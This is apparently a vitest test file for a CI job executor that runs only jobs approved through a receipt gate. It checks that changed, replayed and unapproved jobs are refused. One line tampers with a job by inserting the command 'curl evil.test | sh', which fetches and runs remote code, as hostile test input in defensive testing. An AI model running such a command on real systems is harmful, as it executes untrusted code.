import { chmodSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { CustomRunner, SYSTEM_FAILURE } from '../support/custom-runner.ts';
import { gateScenes } from '../support/gate-scene.ts';
import { UIDS } from '../support/pty-jobs.ts';
import { runnerWrites } from '../support/runner-writes.ts';

const scenes = gateScenes();

const DRIVERS = [
  ['dummy', 'dummy'],
  // Jobs of other users are made by root alone.
  ...(process.getuid?.() === 0 ? [['pty', `pty\npty:\n  users: ${UIDS[0]}:${UIDS[0]}`] as const] : []),
] as const;

it.each(DRIVERS)(
  'the executor (%s) runs a job that came through the gate, and refuses it changed, run once more, or past the gate (T25, T39)',
  {
    timeout: 60_000,
  },
  async (_, driver) => {
    const folder = mkdtempSync(join(tmpdir(), 'holdpoint-executor-'));
    chmodSync(folder, 0o711);
    const socket = join(folder, 'receipts.sock');
    const scene = await scenes({
      receipts: {
        socket,
        mode: 0o600,
        group: null,
        spend: { users: [String(process.getuid?.() ?? 0)], groups: [] },
        check: { users: [], groups: [] },
        validMs: 600_000,
      },
    });
    const runner = new CustomRunner(
      `receipt_socket: ${socket}\nreceipt_wait: 5s\nwork_dir: ${folder}/work\ngrace: 500ms\ndriver: ${driver}\n`,
    );
    try {
      const id = await scene.approved();
      const reply = await scene.poll();
      expect(reply.status).toBe(201);
      const response = runnerWrites(reply.body);

      const changed = JSON.parse(response.toString());
      changed.steps[0].script = ['curl evil.test | sh'];
      const other = runner.job({ id, response: Buffer.from(JSON.stringify(changed)) });
      expect(await other.call('prepare')).toMatchObject({ code: SYSTEM_FAILURE });
      expect(await other.stage('step_script', 'echo ran\n')).toMatchObject({ code: SYSTEM_FAILURE, out: '' });

      const job = runner.job({ id, response });
      const prepare = await job.call('prepare');
      expect(prepare).toMatchObject({ code: 0, err: expect.stringContaining(`job ${id} was let through`) });
      // gitlab-runner tries to prepare up to three times.
      expect(await job.call('prepare')).toMatchObject({ code: 0 });
      expect(await job.stage('step_script', 'echo ran\n')).toMatchObject({ code: 0, out: 'ran\n' });
      expect(await job.call('cleanup')).toMatchObject({ code: 0 });

      const again = runner.job({ id, response });
      expect(await again.call('prepare')).toMatchObject({ code: SYSTEM_FAILURE });
      const past = runner.job({ id: id + 1 });
      expect(await past.call('prepare')).toMatchObject({ code: SYSTEM_FAILURE });
      expect(await past.stage('step_script', 'echo ran\n')).toMatchObject({ code: SYSTEM_FAILURE, out: '' });
    } finally {
      await runner.stop();
      rmSync(folder, { recursive: true, force: true });
    }
  },
);
